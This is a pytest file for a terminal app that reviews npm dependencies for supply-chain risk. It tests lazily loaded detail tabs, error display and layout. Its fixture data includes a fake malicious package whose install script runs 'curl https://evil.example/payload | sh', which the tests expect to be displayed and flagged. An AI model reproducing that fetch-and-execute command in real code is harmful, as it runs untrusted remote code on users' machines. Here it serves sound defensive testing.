"""Detail tabs load lazily in workers: a spinner while waiting, errors in place."""

from __future__ import annotations

import asyncio
import threading
from pathlib import Path

import pytest
from textual.widgets import Static
from tui_helpers import (
    FakeProvider,
    fake_reviewer,
    fixture_graph,
    rendered_text,
    settle,
    wait_until,
)

from reviewer.app.session import ReviewSession
from reviewer.tui.screens.main import MainScreen
from reviewer.tui.screens.summary import SummaryScreen

SIZE = (150, 45)


async def main_screen(pilot) -> MainScreen:
    await pilot.pause()
    if isinstance(pilot.app.screen, SummaryScreen):
        await pilot.press("s")
        await pilot.pause()
    assert isinstance(pilot.app.screen, MainScreen)
    return pilot.app.screen


async def test_tabs_load_only_when_opened_with_a_spinner(make_app, make_session):
    provider = FakeProvider()
    provider.gate = asyncio.Event()
    app = make_app(make_session(provider=provider))
    async with app.run_test(size=SIZE) as pilot:
        main = await main_screen(pilot)
        await pilot.pause(0.3)
        # the review starts once the screen has settled: the riskiest first, then the detail
        await wait_until(pilot, lambda: main.detail.key == "evil-scripts@1.0.0")
        assert main.detail.key == "evil-scripts@1.0.0"
        overview = main.detail.query_one("#body-overview", Static)
        assert overview.loading  # waiting for the packument
        assert not any(call.startswith("tarball") for call in provider.calls)
        await pilot.press("right_square_bracket")  # the Code tab
        await pilot.pause(0.1)
        scripts = main.detail.query_one("#body-scripts", Static)
        assert scripts.loading
        assert app.is_running and main.table.row_count == 8  # the UI is not blocked
        await pilot.press("down", "up")
        provider.gate.set()
        await settle(pilot)
        assert not scripts.loading
        assert "tarball evil-scripts@1.0.0" in provider.calls
        text = rendered_text(scripts)
        assert "postinstall" in text and "node install.js" in text
        assert "install.js" in text and "curl https://evil.example/payload" in text
        assert "line 2" in text  # the suspicious line, with the rule that matched
        assert "[@click=app.quit]done" in text  # file content shown literally


async def test_each_tab_renders_for_the_selected_package(make_app):
    app = make_app()
    async with app.run_test(size=SIZE) as pilot:
        main = await main_screen(pilot)
        await settle(pilot)
        expectations = {
            "overview": ["evil-scripts@1.0.0", "Why is it here", "shop → evil-scripts"],
            "scripts": ["postinstall"],
            "maintainers": ["mallory", "0.9.0", "new"],
            "advisories": ["No advisories"],
            # the previous release → the locked version: what 1.0.0 brought in is added
            "diff": ["evil-scripts@0.9.0 → evil-scripts@1.0.0 (locked)", "added", "install.js",
                     "+cp.exec('curl https://evil.example/payload | sh');",
                     "previous release → locked: + is in the locked version"],
        }
        for tab, needles in expectations.items():
            main.detail.show_tab(tab)
            await settle(pilot)
            text = rendered_text(main.detail.query_one(f"#body-{tab}", Static))
            for needle in needles:
                assert needle in text, (tab, needle, text)
        main.jump_to("left-pad@1.3.0")
        main.detail.show_tab("advisories")
        await settle(pilot)
        text = rendered_text(main.detail.query_one("#body-advisories", Static))
        assert "GHSA-1234-abcd" in text and "HIGH" in text


async def test_a_registry_error_shows_in_place_as_text(make_app, make_session):
    provider = FakeProvider()
    del provider.packuments["dep-a"]
    app = make_app(make_session(provider=provider))
    async with app.run_test(size=SIZE) as pilot:
        main = await main_screen(pilot)
        main.jump_to("dep-a@1.0.0")
        main.detail.show_tab("maintainers")
        await settle(pilot)
        text = rendered_text(main.detail.query_one("#body-maintainers", Static))
        assert "Could not load" in text and "[red]boom[/red]" in text and "\\x1b[2J" in text
        assert app.is_running


async def test_tabs_against_the_fixture_registry(fixture_registry, registry_config, project: Path):
    from reviewer.registry.service import RegistryService
    from reviewer.tui.app import ReviewerApp

    service = RegistryService(registry_config())
    session = ReviewSession(fixture_graph(project), service, project)
    app = ReviewerApp(session, keymap_path=project / "none.toml")
    async with app.run_test(size=SIZE) as pilot:
        main = await main_screen(pilot)
        await settle(pilot)
        assert "done" in app.scan_progress
        assert main.table.current_key == "bufferutil@4.1.0"  # an install script: riskier
        assert any(f.id == "install-script" for f in session.findings_of("bufferutil@4.1.0"))
        main.detail.show_tab("scripts")
        await settle(pilot)
        text = rendered_text(main.detail.query_one("#body-scripts", Static))
        assert "install" in text and "node-gyp-build" in text
        main.jump_to("left-pad@1.3.0")
        main.detail.show_tab("maintainers")
        await settle(pilot)
        text = rendered_text(main.detail.query_one("#body-maintainers", Static))
        assert "1.3.0" in text and "1.2.0" in text
    assert fixture_registry.requests_for("/bufferutil")
    assert fixture_registry.requests_for("/bufferutil/-/bufferutil-4.1.0.tgz")


async def test_a_load_replaced_before_it_starts_leaves_no_coroutine_behind(make_app):
    """Two loads of one tab in the same step: the first worker is cancelled before its task
    ever runs. Its work must not have been created yet (a coroutine made and dropped warns
    "coroutine 'DetailPane._run' was never awaited", as the review-mode snapshot did)."""
    import gc
    import warnings

    app = make_app()
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        async with app.run_test(size=SIZE) as pilot:
            main = await main_screen(pilot)
            await settle(pilot)
            main.detail.show("left-pad@1.3.0")
            main.detail.reload()  # replaces the load just asked for, in the same step
            main.detail.reload()
            body = main.detail.query_one("#body-overview", Static)
            # (cancelled workers: `settle` would raise WorkerCancelled)
            await wait_until(pilot, lambda: "left-pad@1.3.0" in rendered_text(body))
            assert "left-pad@1.3.0" in rendered_text(body)  # the last load did its work
        gc.collect()
    unawaited = [str(w.message) for w in caught if "never awaited" in str(w.message)]
    assert not unawaited, unawaited


async def test_tabs_not_shown_are_filled_once_the_review_is_over(make_app, make_session):
    """Each mount lays the whole screen out again: while the background review runs, the
    detail pane mounts only the shown tab's content (and a tab as it is chosen); the others
    follow once the review is over."""
    from reviewer.tui.widgets.detail_pane import REST_DELAY, TABS

    release = threading.Event()

    async def held_reviewer(package):  # on the review's own thread
        await asyncio.to_thread(release.wait, 10)
        return await fake_reviewer(package)

    app = make_app(make_session(reviewer=held_reviewer))
    try:
        async with app.run_test(size=SIZE) as pilot:
            main = await main_screen(pilot)
            detail = main.detail
            await wait_until(pilot, lambda: bool(detail.query("#body-overview")))
            assert app.reviewing
            await pilot.pause(REST_DELAY * 2)
            assert app.reviewing
            assert [tab for tab, _ in TABS if detail.query(f"#body-{tab}")] == ["overview"]
            await pilot.press("right_square_bracket")  # the Code tab: filled as it is chosen
            await wait_until(pilot, lambda: bool(detail.query("#body-scripts")))
            assert detail.active_tab == "scripts" and detail.query("#body-scripts")
            assert not detail.query("#body-maintainers")
            release.set()
            await wait_until(pilot, lambda: not app.reviewing
                             and all(detail.query(f"#body-{tab}") for tab, _ in TABS))
            assert all(detail.query(f"#body-{tab}") for tab, _ in TABS)
            assert detail.active_tab == "scripts"  # filling the rest changes no tab
    finally:
        release.set()


@pytest.mark.parametrize(("width", "narrow"), [(80, True), (160, False)])
async def test_the_first_layout_has_the_width_class_and_the_legend(make_app, monkeypatch,
                                                                   width, narrow):
    """The main screen is laid out once for its first paint: narrow or not, the legend drawn
    for its width, before the first Resize (which then changes nothing)."""
    seen: list[tuple[bool, str]] = []
    original = MainScreen.on_resize

    def on_resize(self, event):
        if not seen:
            seen.append((self.has_class("-narrow"), str(self.query_one("#legend").render())))
        original(self, event)

    monkeypatch.setattr(MainScreen, "on_resize", on_resize)
    app = make_app()
    async with app.run_test(size=(width, 30)) as pilot:
        main = await main_screen(pilot)
        await settle(pilot)
        first_narrow, first_legend = seen[0]
        assert first_narrow is narrow and main.narrow is narrow
        assert "legend" in first_legend
        assert str(main.query_one("#legend").render()) == first_legend  # not drawn again
